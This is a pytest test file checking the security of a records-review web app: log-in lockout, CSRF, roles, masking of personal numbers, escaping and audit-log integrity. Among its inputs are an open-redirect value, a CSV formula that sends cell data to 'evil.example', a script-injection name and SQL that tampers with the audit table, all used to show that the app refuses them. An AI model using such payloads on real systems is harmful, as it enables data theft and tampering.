"""The web screens on a real database (SQLite and PostgreSQL): log-in, roles, CSRF, masking, reveal,
escaping, every decision form, the queue, the dashboard and the admin pages.

Decisions go through the guard's rule and the real sink writer (:class:`review_loop.Loop`), so the
page reloaded after a decision shows what the sink holds.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from linkguard.review.service import AuditLog
from fixtures.review_loop import NUMBER, SUGGESTED, SYSTEM

from fixtures.web_support import SECRET, Browser, csrf_of

SPACED = " ".join((NUMBER[:4], NUMBER[4:8], NUMBER[8:]))
SPACED_SUGGESTED = " ".join((SUGGESTED[:4], SUGGESTED[4:8], SUGGESTED[8:]))


def record_links(html: str) -> list[str]:
    return re.findall(r'href="(/records/[^"]+)"', html)


def only_record(browser: Browser) -> str:
    [link] = record_links(browser.get("/queue").text)
    return link


def audit_actions(engine) -> list[tuple[str, str, str]]:
    return [(e.actor, e.action, e.record_id) for e in AuditLog(engine).entries(newest_first=False)]


def assert_no_full_number(html: str) -> None:
    for number in (NUMBER, SUGGESTED):
        assert number not in html and " ".join((number[:4], number[4:8], number[8:])) not in html


# -- log-in, sessions -------------------------------------------------------------
def test_login_required_then_login_and_logout(browser, engine):
    first = browser.get("/queue?reason=DECEASED")
    assert first.status_code == 303 and first.headers["location"].startswith("/login?next=")
    wrong = browser.login("sato", "not-the-password")
    assert wrong.status_code == 401 and "パスワードが違います" in wrong.text
    ok = browser.login("sato")
    assert ok.status_code == 303 and ok.headers["location"] == "/queue"
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    assert browser.get("/queue").status_code == 200
    out = browser.post("/logout", {}, token_from="/queue")
    assert out.status_code == 303 and out.headers["location"] == "/login"
    assert browser.get("/queue").status_code == 303
    assert [a for _, a, _ in audit_actions(engine)] == ["login-failed", "login", "logout"]


def test_password_guessing_locks_the_user_name_for_a_while(browser, engine):
    for _ in range(5):
        assert browser.login("sato", "guess-guess-guess").status_code == 401
    locked = browser.login("sato")  # even the right password, for now
    assert locked.status_code == 429 and "15分間ログインできません" in locked.text
    assert browser.login("kato").status_code == 303  # other users are not affected
    assert [a for u, a, _ in audit_actions(engine) if u == "sato"][-1] == "login-locked"


def test_login_returns_to_the_page_asked_for_but_never_off_site(browser):
    token = browser.csrf("/login")
    to_page = browser.client.post("/login", data={"username": "sato", "password": "password-sato-1",
                                                  "csrf_token": token, "next": "/queue?order=newest"})
    assert to_page.headers["location"] == "/queue?order=newest"
    browser.client.cookies.clear()
    token = browser.csrf("/login")
    off_site = browser.client.post("/login", data={"username": "sato", "password": "password-sato-1",
                                                   "csrf_token": token, "next": "//evil.example/"})
    assert off_site.headers["location"] == "/queue"


def test_the_cookie_is_secure_when_https_only(engine, writer, loop, accounts):
    from fastapi.testclient import TestClient

    from linkguard.web.app import create_app
    from linkguard.web.settings import WebSettings
    from streams.settings import KafkaSettings

    app = create_app(engine=engine, settings=WebSettings(web_secret=SECRET), kafka=KafkaSettings(kafka_bootstrap=None),
                     publisher=loop, accounts=accounts, sample_in_background=False)
    with TestClient(app, base_url="https://testserver", follow_redirects=False) as client:
        page = client.get("/login")
        assert "secure" in page.headers["set-cookie"].lower()
        assert "default-src 'self'" in page.headers["content-security-policy"]
        assert page.headers["cache-control"] == "no-store"
        assert page.headers["strict-transport-security"].startswith("max-age=")


def test_a_secret_is_required():
    from linkguard.web.settings import WebSettings

    with pytest.raises(RuntimeError, match="LINKGUARD_WEB_SECRET"):
        WebSettings(web_secret=None).secret()
    with pytest.raises(RuntimeError, match="32 characters"):
        WebSettings(web_secret="short").secret()


def test_a_session_ends_after_the_working_day_even_when_active(browser, app):
    browser.login("sato")
    assert browser.get("/queue").status_code == 200
    app.state.services.settings.web_session_hours = 1e-9  # the whole session, not idleness, is bounded
    assert browser.get("/queue").status_code == 303


def test_a_deactivated_user_is_signed_out_at_once(browser, accounts):
    browser.login("sato")
    assert browser.get("/queue").status_code == 200
    accounts.set_active("sato", False)
    assert browser.get("/queue").status_code == 303
    assert browser.login("sato").status_code == 401


@pytest.mark.parametrize("change", ["logout", "deactivate", "roles", "password"])
def test_a_replayed_session_cookie_is_refused_once_the_session_ended(browser, app, accounts, loop, change):
    """Issue 12 item 2: a copied cookie stayed valid for hours after log-out (queue, record, reveal: 200)."""
    from fastapi.testclient import TestClient

    browser.login("sato")
    assert browser.get("/queue").status_code == 200
    copied = dict(browser.client.cookies)
    if change == "logout":
        browser.post("/logout", {}, token_from="/queue")
    else:
        {"deactivate": lambda: accounts.set_active("sato", False),
         "roles": lambda: accounts.set_roles("sato", "reviewer,approver"),
         "password": lambda: accounts.set_password("sato", "another-password-1")}[change]()
    with TestClient(app, base_url="http://testserver", follow_redirects=False, cookies=copied) as replay:
        assert replay.get("/queue").status_code == 303


def test_the_password_is_hashed_off_the_event_loop(browser, app):
    """Issue 12 item 8: argon2 ran inside `async def login`, stalling every other request."""
    import asyncio

    accounts = app.state.services.accounts
    real, threads = accounts.authenticate, []

    def authenticate(username, password):
        try:
            asyncio.get_running_loop()
            threads.append("event loop")
        except RuntimeError:
            threads.append("worker thread")
        return real(username, password)

    accounts.authenticate = authenticate
    try:
        assert browser.login("sato", "wrong-password-x").status_code == 401
        assert browser.login("sato").status_code == 303
    finally:
        accounts.authenticate = real
    assert threads == ["worker thread", "worker thread"]


def test_log_in_attempts_are_limited_per_client_and_in_all(engine, writer, loop, accounts):
    from fastapi.testclient import TestClient

    from linkguard.web.app import create_app
    from linkguard.web.settings import WebSettings
    from streams.settings import KafkaSettings


    app = create_app(engine=engine, settings=WebSettings(web_secret=SECRET, web_https_only=False,
                                                         web_login_per_client=3, web_login_total=5),
                     kafka=KafkaSettings(kafka_bootstrap=None), publisher=loop, accounts=accounts,
                     sample_in_background=False)
    hashed = []
    real = accounts.authenticate
    accounts.authenticate = lambda u, p: hashed.append(u) or real(u, p)

    def attempt(client, name: str) -> int:
        token = csrf_of(client.get("/login").text)
        return client.post("/login", data={"username": name, "password": "x-x-x-x-x", "csrf_token": token}
                           ).status_code

    try:
        with TestClient(app, follow_redirects=False, client=("10.0.0.1", 1)) as one, \
                TestClient(app, follow_redirects=False, client=("10.0.0.2", 1)) as two:
            assert [attempt(one, f"spray-{i}") for i in range(4)] == [401, 401, 401, 429]
            throttled = one.post("/login", data={"username": "z", "password": "x",
                                                 "csrf_token": csrf_of(one.get("/login").text)})
            assert "試行が多すぎます" in throttled.text
            assert [attempt(two, f"other-{i}") for i in range(3)] == [401, 401, 429]  # 5 in all
    finally:
        accounts.authenticate = real
    assert len(hashed) == 5  # a refused attempt costs no hash


def test_a_formula_in_a_failed_user_name_is_text_in_the_audit_csv(browser):
    """Issue 12 item 3: a failed log-in as =HYPERLINK(…) landed unescaped in /admin/audit.csv."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert browser.login(formula, "whatever-password").status_code == 401
    browser.login("root")
    exported = browser.get("/admin/audit.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    actors = [row[2] for row in rows[1:]]
    assert "'" + formula in actors and formula not in actors


# -- CSRF -----------------------------------------------------------------------------
POSTS = ["/logout", "/records/{h}/reveal", "/records/{h}/release", "/records/{h}/approve", "/records/{h}/correct",
         "/records/{h}/return", "/records/{h}/assign", "/dashboard/sample", "/admin/users",
         "/admin/users/sato/roles", "/admin/users/sato/active",
         "/hq/rounds", "/hq/upload", "/hq/stops", "/hq/letters"]


def test_every_post_form_is_refused_without_the_csrf_token(app, browser, accounts, loop, engine):
    from fastapi.routing import APIRoute

    def routes(container):
        for r in getattr(container, "routes", []):
            if isinstance(r, APIRoute):
                yield r
            else:
                yield from routes(getattr(r, "original_router", r if r is not container else None))

    posted = {r.path.replace("{handle}", "{h}").replace("{username}", "sato")
              for r in routes(app.router) if "POST" in r.methods} - {"/login"}
    assert posted == set(POSTS), "a POST route without a CSRF test"
    accounts.create_user("all", "password-all-12", ["reviewer", "approver", "operator", "admin", "headquarters"])
    loop.hold("R-1")
    browser.login("all", "password-all-12")
    handle = only_record(browser).rsplit("/", 1)[1]
    before = audit_actions(engine)
    for path in POSTS:
        data = {"comment": "理由", "which": "record", "my_number": SUGGESTED, "username": "newuser",
                "password": "password-new-12", "roles": "reviewer", "active": "0", "assignee": "all"}
        for token in (None, "forged-token"):
            sent = dict(data, csrf_token=token) if token else data
            response = browser.client.post(path.format(h=handle), data=sent)
            assert response.status_code == 403, path
            assert "有効期限が切れました" in response.text
    assert audit_actions(engine) == before  # nothing happened
    assert loop.records == [] and loop.rulings == []
    assert browser.get("/queue").status_code == 200  # still signed in: /logout was refused too
    # the log-in form itself needs the token
    browser.client.cookies.clear()
    assert browser.client.post("/login", data={"username": "sato", "password": "password-sato-1"}).status_code == 403


# -- roles --------------------------------------------------------------------------
def test_an_operator_sees_dashboards_and_never_personal_data(browser, loop):
    loop.hold("R-1", name="山田 花子")
    reviewer = Browser(browser.client.app)
    with reviewer.client:
        reviewer.login("sato")
        link = only_record(reviewer)
    landing = browser.login("ops")
    assert landing.headers["location"] == "/dashboard"
    for path in ("/queue", link, "/admin/users", "/admin/audit", "/admin/audit.csv"):
        page = browser.get(path)
        assert page.status_code == 403, path
        assert "山田" not in page.text
    dashboard = browser.get("/dashboard")
    assert dashboard.status_code == 200 and "<svg" in dashboard.text
    assert "山田" not in dashboard.text and NUMBER[-4:] not in dashboard.text
    assert 'id="kpi-queue">1<' in dashboard.text
    assert browser.post("/dashboard/sample", {}, token_from="/dashboard").status_code == 303
    assert browser.post(link + "/reveal", {"which": "record"}, token_from="/dashboard").status_code == 403


def test_an_admin_manages_users_but_cannot_open_records(browser, loop):
    loop.hold("R-1")
    browser.login("root")
    assert browser.get("/queue").status_code == 403
    assert browser.get("/admin/users").status_code == 200


def test_a_reviewer_cannot_reach_admin_pages(browser):
    browser.login("sato")
    for path in ("/admin/users", "/admin/audit", "/dashboard"):
        assert browser.get(path).status_code == 403, path


# -- the queue ----------------------------------------------------------------------
def test_queue_filters_counts_and_keyset_paging_with_sealed_cursors(browser, loop, app):
    app.state.services.settings.web_page_size = 3
    for i in range(7):
        loop.hold(f"R-{i}", system=("shintai-techo", "jido-fuyo")[i % 2], name=f"氏名{i}",
                  reasons=[{"code": ("DECEASED", "IDENTITY_MISMATCH")[i % 2 == 0], "detail": ""}])
    browser.login("sato")
    page = browser.get("/queue")
    assert "7 件" in page.text and "死亡した住民の番号です" in page.text
    seen = []
    path = "/queue"
    while True:
        html = browser.get(path).text
        seen += re.findall(r'class="row-link" href="[^"]+">(氏名\d)<', html)
        following = re.search(r'href="(/queue\?cursor=[^"]+)" rel="next"', html)
        if not following:
            break
        path = following.group(1).replace("&amp;", "&")
        assert "R-" not in path  # the service's cursor holds the last record id: it is sealed
    assert seen == [f"氏名{i}" for i in range(7)]
    newest = browser.get("/queue?order=newest").text
    assert newest.index("氏名6") < newest.index("氏名5")
    jido = browser.get("/queue?system=jido-fuyo").text
    assert set(re.findall(r"氏名\d", jido)) == {"氏名1", "氏名3", "氏名5"}
    deceased = browser.get("/queue?reason=DECEASED").text
    assert "3 件" in deceased
    assert "0 件" in browser.get("/queue?age=7d&system=none").text
    assert browser.get("/queue?cursor=tampered").status_code == 200  # starts again at the first page


def test_a_queue_page_costs_the_same_statements_however_deep(browser, loop, app, engine):
    import sqlalchemy as sa

    app.state.services.settings.web_page_size = 2
    for i in range(9):
        loop.hold(f"R-{i}")
    browser.login("sato")
    statements = []
    sa.event.listen(engine, "before_cursor_execute",
                    lambda *a: statements.append(a[2]) if not a[2].startswith("BEGIN") else None)
    costs, path = [], "/queue"
    for _ in range(4):
        before = len(statements)
        html = browser.get(path).text
        costs.append(len(statements) - before)
        path = re.search(r'href="(/queue\?cursor=[^"]+)" rel="next"', html).group(1).replace("&amp;", "&")
    # the session, the account, the page and its total, the counts per reason, the systems, the assignees
    assert len(set(costs)) == 1 and costs[0] <= 7, costs  # keyset paging: page 4 costs what page 1 does


def test_batch_swap_names_the_other_record_and_links_it_when_held(browser, loop):
    loop.passed(loop.event("R-2", name="鈴木 次郎"))
    loop.hold("R-1", name="山田 花子", reasons=[{"code": "BATCH_SWAP", "detail": "R-2,R-3"}])
    loop.hold("R-3", name="田中 三郎")
    browser.login("sato")
    links = dict((name, href) for href, name in
                 re.findall(r'class="row-link" href="([^"]+)">([^<]+)<', browser.get("/queue").text))
    page = browser.get(links["山田 花子"]).text
    assert "同じ一括入力のもう一方の記録" in page
    assert f'href="{links["田中 三郎"]}"' in page  # a held peer opens on its own page
    assert "<strong>鈴木 次郎</strong>" in page  # a peer already in the sink is named, not linked


def test_no_personal_data_in_urls(browser, loop):
    loop.hold("REC-SECRET-42", name="山田 花子")
    browser.login("sato")
    html = browser.get("/queue").text
    urls = re.findall(r'(?:href|action)="([^"]*)"', html)
    [link] = record_links(html)
    assert all("REC-SECRET-42" not in u and NUMBER not in u and "山田" not in u for u in urls)
    assert browser.get(link).status_code == 200
    assert browser.get(link[:-3] + "AAA").status_code == 404  # altered handle
    assert browser.get("/records/" + "x" * 40).status_code == 404


# -- the record page ---------------------------------------------------------------
def test_the_record_page_compares_masks_and_audits_the_view(browser, loop, engine):
    loop.hold("R-1", name="齋藤 花子")
    browser.login("sato")
    link = only_record(browser)
    page = browser.get(link)
    assert page.status_code == 200
    html = page.text
    assert_no_full_number(html)
    assert "**** **** " + NUMBER[-4:] in html and "**** **** " + SUGGESTED[-4:] in html
    assert "齋藤 花子" in html and "鈴木 次郎" in html  # the record and its number's registry person
    assert "候補の住民" in html and "山田 花子" in html  # the suggested person as a third column
    assert html.count('class="differs"') == 2  # name and date of birth differ
    assert "1980-04-01" in html and "1990-05-05" in html  # normalised dates beneath
    assert "IDENTITY_MISMATCH" in html and "本人情報" in html and "name, birth date or sex disagree" in html
    assert ("sato", "view", "R-1") in audit_actions(engine)


def test_reveal_is_a_post_shows_the_number_and_is_audited(browser, loop, engine):
    loop.hold("R-1")
    browser.login("sato")
    link = only_record(browser)
    assert browser.get(link + "/reveal").status_code == 405  # never a GET: a link cannot reveal
    shown = browser.post(link + "/reveal", {"which": "record"}, token_from=link)
    assert shown.status_code == 200 and SPACED in shown.text and SPACED_SUGGESTED not in shown.text
    token = csrf_of(shown.text)
    fetched = browser.client.post(link + "/reveal", data={"which": "suggested", "csrf_token": token},
                                  headers={"X-Requested-With": "fetch"})
    assert fetched.json() == {"which": "suggested", "number": SPACED_SUGGESTED}
    reveals = [(a, r) for _, a, r in audit_actions(engine) if a == "reveal"]
    assert reveals == [("reveal", "R-1"), ("reveal", "R-1")]
    assert all(NUMBER not in e.detail and SUGGESTED not in e.detail for e in AuditLog(engine).entries())


def test_names_are_escaped(browser, loop):
    loop.hold("R-1", name="<script>alert(1)</script>")
    browser.login("sato")
    queue = browser.get("/queue").text
    record = browser.get(only_record(browser)).text
    for html in (queue, record):
        assert "<script>alert(1)" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_english_with_lang_en_remembered_for_the_session(browser, loop):
    loop.hold("R-1")
    browser.login("sato")
    english = browser.get("/queue?lang=en").text
    assert "Held records" in english and '<html lang="en">' in english
    record = browser.get(only_record(browser)).text
    assert "Business record" in record and "Request release" in record
    assert "審査待ちの記録" in browser.get("/queue?lang=ja").text


# -- decisions -----------------------------------------------------------------------
def test_four_eyes_release_with_two_users(browser_factory, loop, writer, engine):
    loop.hold("R-1")
    kato = browser_factory()
    kato.login("kato")
    link = only_record(kato)
    empty = kato.post(link + "/release", {"comment": "  "}, token_from=link)
    assert empty.status_code == 400 and "コメントを入力してください" in empty.text
    requested = kato.post(link + "/release", {"comment": "本人に電話で確認済み"}, token_from=link)
    assert requested.status_code == 303 and requested.headers["location"] == link
    page = kato.get(link).text
    assert "送信を依頼しました" in page and "本人に電話で確認済み" in page
    # the requester's approve button is disabled, and the page says why
    assert re.search(r'accesskey="a"\s+disabled', page) and "あなた自身では承認できません" in page
    refused = kato.post(link + "/approve", {"comment": "自分で承認"}, token_from=link)
    assert refused.status_code == 409 and "送信を依頼した本人は承認できません" in refused.text
    assert writer.copy(SYSTEM, "R-1") is None
    ito = browser_factory()
    ito.login("ito")
    page = ito.get(link).text
    assert "送信依頼あり: kato" in page and not re.search(r'accesskey="a"\s+disabled', page)
    approved = ito.post(link + "/approve", {"comment": "確認しました"}, token_from=link)
    assert approved.status_code == 303
    copy = writer.copy(SYSTEM, "R-1")
    assert copy is not None and copy.via == "review"
    assert "承認済み・送信" in ito.get(link).text
    assert "0 件" in ito.get("/queue").text
    actions = [(u, a) for u, a, _ in audit_actions(engine) if a.startswith(("decide", "refused"))]
    assert actions == [("kato", "decide:REQUEST_RELEASE"), ("kato", "refused:APPROVE_RELEASE"),
                       ("ito", "decide:APPROVE_RELEASE")]


def test_a_decision_the_guard_has_not_ruled_on_yet_shows_as_in_flight(browser, loop, writer):
    from streams.events import decision_message

    loop.hold("R-1")
    held = writer.held(SYSTEM, "R-1")
    submitted = decision_message(action="RETURN", system=SYSTEM, record_id="R-1", version=held.version,
                                 event_id=held.event_id, user="kato", comment="再確認")
    loop.apply("decision", "linkage.decisions", "decision", submitted)  # the sink saw it; the guard not yet
    browser.login("sato")
    link = only_record(browser)
    page = browser.get(link).text
    assert "ガードの処理待ちの判断" in page and "<strong>差し戻し</strong>" in page
    assert 'name="comment"' not in page  # no other decision while the return is on its way
    loop.rule(loop.codec.decode("decision", loop.codec.encode("decision", submitted)))
    page = browser.get(link).text
    assert "ガードの処理待ち" not in page and "差し戻し済み" in page


def test_a_reviewer_without_the_approver_role_cannot_approve(browser_factory, loop):
    loop.hold("R-1")
    sato = browser_factory()
    sato.login("sato")
    link = only_record(sato)
    assert "承認には承認者の権限が必要です" not in sato.get(link).text  # no approve form before a request
    sato.post(link + "/release", {"comment": "確認済み"}, token_from=link)
    page = sato.get(link).text
    assert "あなた自身では承認できません" in page
    assert sato.post(link + "/approve", {"comment": "x"}, token_from=link).status_code == 403


def test_correct_to_the_suggestion_republishes_the_record_with_that_number(browser, loop, engine):
    loop.hold("R-1")
    browser.login("sato")
    link = only_record(browser)
    done = browser.post(link + "/correct", {"use_suggestion": "1", "comment": "候補の番号が正しい"}, token_from=link)
    assert done.status_code == 303
    [event] = loop.records
    assert event["my_number"] == SUGGESTED and event["record_id"] == "R-1" and event["entered_by"] == "sato"
    page = browser.get(link).text
    assert "訂正した記録を送信しました" in page and "ガードの処理後に反映されます" in page
    assert 'action="/records/' + link.rsplit("/", 1)[1] + '/release"' not in page  # no decisions while re-checked
    actions = [a for u, a, _ in audit_actions(engine) if u == "sato" and a != "view"]
    assert actions == ["login", "decide:CORRECT"]  # accepted without anyone seeing the number


def test_correct_with_a_typed_number_and_a_bad_one(browser, loop):
    loop.hold("R-1")
    browser.login("sato")
    link = only_record(browser)
    bad = browser.post(link + "/correct", {"my_number": NUMBER[:-1] + str((int(NUMBER[-1]) + 1) % 10),
                                           "comment": "訂正"}, token_from=link)
    assert bad.status_code == 400 and "個人番号が正しくありません" in bad.text
    assert_no_full_number(bad.text)
    no_comment = browser.post(link + "/correct", {"use_suggestion": "1", "comment": ""}, token_from=link)
    assert no_comment.status_code == 400 and loop.records == []
    typed = browser.post(link + "/correct", {"my_number": " ".join((SUGGESTED[:4], SUGGESTED[4:8], SUGGESTED[8:])),
                                             "comment": "申請書で確認"}, token_from=link)
    assert typed.status_code == 303 and loop.records[0]["my_number"] == SUGGESTED


def test_return_to_the_business_system(browser, loop, writer):
    loop.hold("R-1")
    browser.login("sato")
    link = only_record(browser)
    done = browser.post(link + "/return", {"comment": "申請者に再確認が必要"}, token_from=link)
    assert done.status_code == 303
    assert writer.held(SYSTEM, "R-1").status == "returned"
    assert [d["record_id"] for d in loop.returned] == ["R-1"]
    page = browser.get(link).text
    assert "差し戻し済み" in page and 'name="comment"' not in page
    assert browser.post(link + "/return", {"comment": "again"}, token_from="/queue").status_code == 409


def test_assign_and_filter_by_assignee(browser, loop):
    loop.hold("R-1", name="担当あり")
    loop.hold("R-2", name="担当なし")
    browser.login("kato")
    link = record_links(browser.get("/queue").text)[0]
    assert browser.post(link + "/assign", {"assignee": "sato"}, token_from=link).status_code == 303
    mine = browser.get("/queue?assignee=sato").text
    assert "担当あり" in mine and "担当なし" not in mine
    refused = browser.post(link + "/assign", {"assignee": "ops"}, token_from=link)
    assert refused.status_code == 400 and "no active reviewer or approver" in refused.text  # ops is an operator


# -- admin ---------------------------------------------------------------------------
def test_admin_creates_users_sets_roles_deactivates_and_exports_the_audit_log(browser, accounts):
    browser.login("root")
    short = browser.post("/admin/users", {"username": "yamada", "password": "short", "roles": "reviewer"})
    assert short.status_code == 400 and "12文字以上" in short.text
    created = browser.post("/admin/users", {"username": "yamada", "display_name": "山田 審査",
                                            "password": "password-yamada", "roles": ["reviewer"]})
    assert created.status_code == 303 and accounts.get("yamada").can("reviewer")
    assert browser.post("/admin/users/yamada/roles", {"roles": ["approver", "reviewer"]},
                        token_from="/admin/users").status_code == 303
    assert accounts.get("yamada").can("approver")
    assert browser.post("/admin/users/yamada/active", {"active": "0"}, token_from="/admin/users").status_code == 303
    assert not accounts.get("yamada").active
    self_off = browser.post("/admin/users/root/active", {"active": "0"}, token_from="/admin/users")
    assert self_off.status_code == 400 and accounts.get("root").active
    audit = browser.get("/admin/audit").text
    assert "user-create" in audit and "user-deactivate" in audit
    exported = browser.get("/admin/audit.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0] == ["id", "at", "actor", "action", "system", "record_id", "detail"]
    assert {"login", "user-create", "user-roles", "user-deactivate"} <= {r[3] for r in rows[1:]}


def test_the_last_admin_cannot_remove_their_own_admin_role(browser, accounts):
    """Issue 12 item 14: an admin could remove their own admin role and leave no admin."""
    browser.login("root")
    refused = browser.post("/admin/users/root/roles", {"roles": ["reviewer"]}, token_from="/admin/users")
    assert refused.status_code == 400 and "last active admin" in refused.text
    assert accounts.get("root").can("admin")
    assert browser.post("/admin/users/kato/roles", {"roles": ["admin"]}, token_from="/admin/users").status_code == 303
    # with a second admin the first may step down (which ends their session, as any role change does)
    assert browser.post("/admin/users/root/roles", {"roles": ["reviewer"]}, token_from="/admin/users").status_code == 303
    assert not accounts.get("root").can("admin")


@pytest.mark.parametrize("before", ["1" + "0" * 26, "-1", "abc", "9223372036854775808", "１２"])
def test_a_bad_audit_cursor_shows_the_newest_page_not_a_500(browser, before):
    browser.login("root")
    page = browser.get(f"/admin/audit?before={before}")
    assert page.status_code == 200 and "login" in page.text


def test_the_audit_page_shows_whether_the_hash_chain_holds(browser, app, engine):
    from sinks.audit import CachedChainCheck

    app.state.services.audit_chain = CachedChainCheck(engine, ttl=0)
    browser.login("root")
    assert "正常" in browser.get("/admin/audit").text
    with engine.begin() as conn:  # what the table's owner could do behind the application's back
        if engine.dialect.name == "postgresql":
            conn.exec_driver_sql("ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_log_no_update")
        conn.exec_driver_sql("UPDATE audit_log SET actor = 'someone' WHERE id = 1")
    page = browser.get("/admin/audit").text
    assert "#1 以降が改ざんされた疑い" in page


# -- the catalogue of words ----------------------------------------------------------
def test_every_word_a_template_uses_is_in_both_languages():
    from importlib import resources

    from linkguard.web.i18n import MESSAGES

    used = set()
    for template in (resources.files("linkguard.web") / "templates").iterdir():
        used |= set(re.findall(r"""\bt\(['"]([a-z_.0-9]+[a-z0-9])['"]""", template.read_text()))
    used |= {f"queue.age.{a}" for a in ("1h", "1d", "3d", "7d")} | {"record.reveal_record", "record.reveal_suggested",
                                                                  "login.locked"}
    used |= {f"action.{a}" for a in ("REQUEST_RELEASE", "APPROVE_RELEASE", "CORRECT", "RETURN")}
    used |= {f"status.{s}" for s in ("open", "superseded", "released", "corrected", "returned")}
    import linkguard.web.views as views

    used |= {key for _, _, key in views.ERRORS}
    missing = sorted(k for k in used if k not in MESSAGES)
    assert not missing, missing
    assert all(ja and en for ja, en in MESSAGES.values())
